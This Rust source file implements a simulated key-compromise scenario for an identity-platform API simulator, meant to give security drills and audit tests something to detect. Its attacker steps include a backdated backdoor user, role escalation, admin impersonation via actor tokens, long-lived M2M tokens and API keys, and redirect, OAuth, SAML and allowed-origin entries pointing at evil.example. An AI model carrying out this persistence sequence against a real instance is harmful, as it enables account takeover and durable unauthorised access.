//! The `compromise` scenario: a simulated attacker holding the instance's secret key uses it
//! through the Backend API, so that drills and tests have something to audit.
//!
//! First an administrator does a few ordinary things (a user, a redirect URL, an invitation);
//! then the clock moves on, the key leaks, and the attacker creates a backdated backdoor
//! user and a second one, writes a role into a victim's private metadata, creates an
//! organisation, makes themselves `org:admin` of a real one and promotes a member of
//! another, impersonates the organisation admin with an actor token and signs in with a
//! sign-in token (both leave sessions), creates a machine with an M2M token, API keys, an
//! invitation, a redirect URL, a satellite domain, allowlist and blocklist identifiers, a JWT
//! template, an OAuth application and a SAML connection, and adds its site to the instance's
//! allowed origins. Every request goes over HTTP to the
//! sim itself, with the key, so it is counted and faulted like any other.

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::SimError;
use crate::state::Shared;

/// One thing done during the scenario.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct SimAction {
    /// What was done, such as `user.created` or `organization_membership.updated`.
    pub kind: String,
    /// The id of the object an audit would report: the user, membership, session, ...
    pub id: String,
    /// When, on the sim's clock, Unix ms.
    pub at: i64,
    /// A sentence for people.
    pub detail: String,
}

/// What [`Sim::compromise`](crate::Sim::compromise) did.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Compromise {
    /// When the key leaked: every attacker action is at or after it, every ordinary one
    /// before.
    pub leaked_at: i64,
    /// The administrator's ordinary actions, before the leak: an audit from `leaked_at` must
    /// not report them.
    pub before: Vec<SimAction>,
    /// The attacker's actions: an audit from `leaked_at` must report each.
    pub attacker: Vec<SimAction>,
}

/// Sends the scenario's requests.
struct Attacker<'a> {
    shared: &'a Shared,
    key: String,
}

impl Attacker<'_> {
    async fn send(
        &self,
        method: reqwest::Method,
        path: &str,
        body: Option<Value>,
        key: Option<&str>,
    ) -> Result<Value, SimError> {
        let url = format!("{}{path}", self.shared.base_url);
        let mut request = self
            .shared
            .webhook_client
            .request(method.clone(), &url)
            .bearer_auth(key.unwrap_or(&self.key));
        if let Some(body) = body {
            request = request
                .header(reqwest::header::CONTENT_TYPE, "application/json")
                .body(body.to_string());
        }
        let failed = |reason: String| SimError::Scenario {
            step: format!("{method} {path}"),
            reason,
        };
        let response = request
            .send()
            .await
            .map_err(|error| failed(error.to_string()))?;
        let status = response.status();
        let bytes = response
            .bytes()
            .await
            .map_err(|error| failed(format!("unreadable answer: {error}")))?;
        let body: Value = serde_json::from_slice(&bytes)
            .map_err(|error| failed(format!("unreadable answer: {error}")))?;
        if !status.is_success() {
            let message = body
                .pointer("/errors/0/long_message")
                .and_then(Value::as_str)
                .unwrap_or("no message");
            return Err(failed(format!("{status}: {message}")));
        }
        Ok(body)
    }

    /// A request answered without a body (`204 No Content`).
    async fn send_empty(
        &self,
        method: reqwest::Method,
        path: &str,
        body: Value,
    ) -> Result<(), SimError> {
        let url = format!("{}{path}", self.shared.base_url);
        let response = self
            .shared
            .webhook_client
            .request(method.clone(), &url)
            .bearer_auth(&self.key)
            .header(reqwest::header::CONTENT_TYPE, "application/json")
            .body(body.to_string())
            .send()
            .await
            .map_err(|error| SimError::Scenario {
                step: format!("{method} {path}"),
                reason: error.to_string(),
            })?;
        if response.status().is_success() {
            Ok(())
        } else {
            Err(SimError::Scenario {
                step: format!("{method} {path}"),
                reason: response.status().to_string(),
            })
        }
    }

    async fn post(&self, path: &str, body: Value) -> Result<Value, SimError> {
        self.send(reqwest::Method::POST, path, Some(body), None)
            .await
    }

    async fn patch(&self, path: &str, body: Value) -> Result<Value, SimError> {
        self.send(reqwest::Method::PATCH, path, Some(body), None)
            .await
    }

    /// Signs in with a token's ticket; returns the session.
    async fn accept(&self, token: &Value) -> Result<Value, SimError> {
        let ticket = token
            .get("token")
            .and_then(Value::as_str)
            .unwrap_or_default();
        let path = format!("/v1/tickets/accept?ticket={ticket}");
        let accepted = self.send(reqwest::Method::GET, &path, None, None).await?;
        Ok(accepted.get("session").cloned().unwrap_or_default())
    }
}

/// The `id` of an answer, for the record.
fn id(value: &Value) -> String {
    value["id"].as_str().unwrap_or_default().to_owned()
}

impl Shared {
    /// Runs the scenario with `key`; the attacker acts at `at` (the clock is moved forward to
    /// it if needed), by default right after the ordinary actions.
    pub(crate) async fn compromise(
        &self,
        key: &str,
        at: Option<i64>,
    ) -> Result<Compromise, SimError> {
        let attacker = Attacker {
            shared: self,
            key: key.to_owned(),
        };
        let (victim, admin, member) = self.scenario_targets()?;
        let mut before = Vec::new();
        let record = |list: &mut Vec<SimAction>, kind: &str, id: String, detail: String| {
            list.push(SimAction {
                kind: kind.to_owned(),
                id,
                at: self.clock.now_ms(),
                detail,
            });
        };

        let colleague = attacker
            .post("/v1/users", json!({"email_address": ["new.colleague@example.com"], "first_name": "New", "last_name": "Colleague"}))
            .await?;
        record(
            &mut before,
            "user.created",
            id(&colleague),
            "an administrator adds a colleague".to_owned(),
        );
        let url = attacker
            .post(
                "/v1/redirect_urls",
                json!({"url": "https://app.example.com/after-sign-in"}),
            )
            .await?;
        record(
            &mut before,
            "redirect_url.created",
            id(&url),
            "an administrator allows the app's own redirect".to_owned(),
        );
        let invitation = attacker
            .post(
                "/v1/invitations",
                json!({"email_address": "partner@example.com"}),
            )
            .await?;
        record(
            &mut before,
            "invitation.created",
            id(&invitation),
            "an administrator invites a partner".to_owned(),
        );

        // The leak comes just after the last ordinary change (creation times can run a
        // millisecond ahead of the clock to stay distinct), or at `at` if that is later.
        let latest = [&colleague, &url, &invitation]
            .iter()
            .filter_map(|object| object.get("created_at").and_then(Value::as_i64))
            .max()
            .unwrap_or_default();
        let earliest = latest.max(self.clock.now_ms()) + 1;
        let leaked_at = self.clock.advance_to(at.unwrap_or(earliest).max(earliest));
        let mut attack = Vec::new();

        let backdoor = attacker
            .post(
                "/v1/users",
                json!({
                    "email_address": ["it-support@evil.example"],
                    "first_name": "IT",
                    "last_name": "Support",
                    "public_metadata": {"role": "admin"},
                    "created_at": "2024-01-15T09:00:00Z",
                }),
            )
            .await?;
        let backdoor_id = id(&backdoor);
        record(
            &mut attack,
            "user.created",
            backdoor_id.clone(),
            "a backdoor user with public_metadata.role = admin, its created_at backdated to 2024"
                .to_owned(),
        );
        let accomplice = attacker
            .post(
                "/v1/users",
                json!({"email_address": ["mallory@evil.example"], "first_name": "Mallory"}),
            )
            .await?;
        let accomplice_id = id(&accomplice);
        record(
            &mut attack,
            "user.created",
            accomplice_id.clone(),
            "a second attacker user".to_owned(),
        );
        attacker
            .patch(
                &format!("/v1/users/{victim}/metadata"),
                json!({"private_metadata": {"role": "admin"}}),
            )
            .await?;
        record(
            &mut attack,
            "user.updated",
            victim.clone(),
            "private_metadata.role = admin written into a real user".to_owned(),
        );

        let shadow = attacker
            .post(
                "/v1/organizations",
                json!({"name": "Shadow Ops", "created_by": backdoor_id}),
            )
            .await?;
        let shadow_id = id(&shadow);
        record(
            &mut attack,
            "organization.created",
            shadow_id.clone(),
            "an organisation owned by the backdoor user".to_owned(),
        );
        let (org_id, member_id) = member.clone();
        let joined = attacker
            .post(
                &format!("/v1/organizations/{org_id}/memberships"),
                json!({"user_id": accomplice_id, "role": "org:admin"}),
            )
            .await?;
        record(
            &mut attack,
            "organization_membership.created",
            id(&joined),
            "the attacker made org:admin of a real organisation".to_owned(),
        );
        let promoted = attacker
            .patch(
                &format!("/v1/organizations/{org_id}/memberships/{member_id}"),
                json!({"role": "org:admin"}),
            )
            .await?;
        record(
            &mut attack,
            "organization_membership.updated",
            id(&promoted),
            "a member promoted to org:admin".to_owned(),
        );
        let shadow_memberships = attacker
            .send(
                reqwest::Method::GET,
                &format!("/v1/organizations/{shadow_id}/memberships"),
                None,
                None,
            )
            .await?;
        if let Some(owner) = shadow_memberships.pointer("/data/0") {
            record(
                &mut attack,
                "organization_membership.created",
                id(owner),
                "the backdoor user is org:admin of the new organisation".to_owned(),
            );
        }

        let actor_token = attacker
            .post(
                "/v1/actor_tokens",
                json!({"user_id": admin, "actor": {"sub": backdoor_id}}),
            )
            .await?;
        let impersonation = attacker.accept(&actor_token).await?;
        record(
            &mut attack,
            "session.impersonated",
            id(&impersonation),
            "an actor token used to impersonate the organisation admin".to_owned(),
        );
        let sign_in = attacker
            .post("/v1/sign_in_tokens", json!({"user_id": accomplice_id}))
            .await?;
        let signed_in = attacker.accept(&sign_in).await?;
        record(
            &mut attack,
            "session.created",
            id(&signed_in),
            "a sign-in token used to sign the attacker user in".to_owned(),
        );

        let machine = attacker
            .post("/v1/machines", json!({"name": "metrics-exporter"}))
            .await?;
        let machine_id = id(&machine);
        record(
            &mut attack,
            "machine.created",
            machine_id.clone(),
            "a machine, with its secret key".to_owned(),
        );
        let machine_key = machine
            .get("secret_key")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_owned();
        let m2m = attacker
            .send(
                reqwest::Method::POST,
                "/v1/m2m_tokens",
                Some(json!({"seconds_until_expiration": 31_536_000})),
                Some(&machine_key),
            )
            .await?;
        record(
            &mut attack,
            "m2m_token.created",
            id(&m2m),
            "a year-long M2M token for that machine".to_owned(),
        );
        let key_for_user = attacker
            .post(
                "/v1/api_keys",
                json!({"name": "ci deploy", "subject": accomplice_id}),
            )
            .await?;
        record(
            &mut attack,
            "api_key.created",
            id(&key_for_user),
            "an API key for the attacker user".to_owned(),
        );
        let key_for_org = attacker
            .post(
                "/v1/api_keys",
                json!({"name": "integration", "subject": org_id}),
            )
            .await?;
        record(
            &mut attack,
            "api_key.created",
            id(&key_for_org),
            "an API key for a real organisation".to_owned(),
        );

        let steps: [(&str, &str, Value, &str); 8] = [
            (
                "/v1/invitations",
                "invitation.created",
                json!({"email_address": "eve@evil.example", "public_metadata": {"role": "admin"}}),
                "an invitation carrying role = admin",
            ),
            (
                "/v1/redirect_urls",
                "redirect_url.created",
                json!({"url": "https://evil.example/collect"}),
                "a redirect URL on the attacker's domain",
            ),
            (
                "/v1/domains",
                "domain.created",
                json!({"name": "evil.example", "is_satellite": true}),
                "a satellite domain",
            ),
            (
                "/v1/allowlist_identifiers",
                "allowlist_identifier.created",
                json!({"identifier": "*@evil.example"}),
                "the attacker's domain allowlisted",
            ),
            (
                "/v1/blocklist_identifiers",
                "blocklist_identifier.created",
                json!({"identifier": "security@example.com"}),
                "the security team blocklisted",
            ),
            (
                "/v1/jwt_templates",
                "jwt_template.created",
                json!({"name": "support", "claims": {"role": "admin"}, "lifetime": 86_400}),
                "a day-long JWT template claiming role = admin",
            ),
            (
                "/v1/oauth_applications",
                "oauth_application.created",
                json!({"name": "Calendar Sync", "redirect_uris": ["https://evil.example/oauth"]}),
                "an OAuth application sending users to the attacker",
            ),
            (
                "/v1/saml_connections",
                "saml_connection.created",
                json!({"name": "Partner SSO", "provider": "saml_custom", "domains": ["evil.example"]}),
                "a SAML connection the attacker's IdP controls",
            ),
        ];
        for (path, kind, body, detail) in steps {
            let created = attacker.post(path, body).await?;
            record(&mut attack, kind, id(&created), detail.to_owned());
        }
        let instance = attacker
            .send(reqwest::Method::GET, "/v1/instance", None, None)
            .await?;
        let mut origins: Vec<Value> = instance
            .get("allowed_origins")
            .and_then(Value::as_array)
            .cloned()
            .unwrap_or_default();
        origins.push(json!("https://evil.example"));
        attacker
            .send_empty(
                reqwest::Method::PATCH,
                "/v1/instance",
                json!({"allowed_origins": origins}),
            )
            .await?;
        record(
            &mut attack,
            "instance.updated",
            id(&instance),
            "the attacker's site added to the allowed origins".to_owned(),
        );
        tracing::info!(
            leaked_at,
            actions = attack.len(),
            "clerk sim compromise scenario ran"
        );
        Ok(Compromise {
            leaked_at,
            before,
            attacker: attack,
        })
    }

    /// A victim user, the seeded organisation admin, and a plain member (organisation id,
    /// user id) of an organisation.
    fn scenario_targets(&self) -> Result<(String, String, (String, String)), SimError> {
        let inner = self.lock();
        let store = &inner.store;
        let missing = |what: &str| SimError::InvalidConfig {
            reason: format!(
                "the compromise scenario needs {what}; seed at least 3 users and 1 organisation"
            ),
        };
        let admin = store
            .admin_user_id()
            .ok_or_else(|| missing("an organisation admin"))?
            .to_owned();
        let member = store
            .users_newest_first()
            .filter(|user| user.id != admin)
            .find_map(|user| {
                let membership = user.membership.as_ref()?;
                Some((membership.organization_id.clone(), user.id.clone()))
            })
            .ok_or_else(|| missing("an organisation member"))?;
        let victim = store
            .users_newest_first()
            .find(|user| user.id != admin && user.id != member.1)
            .map(|user| user.id.clone())
            .ok_or_else(|| missing("a third user"))?;
        Ok((victim, admin, member))
    }
}
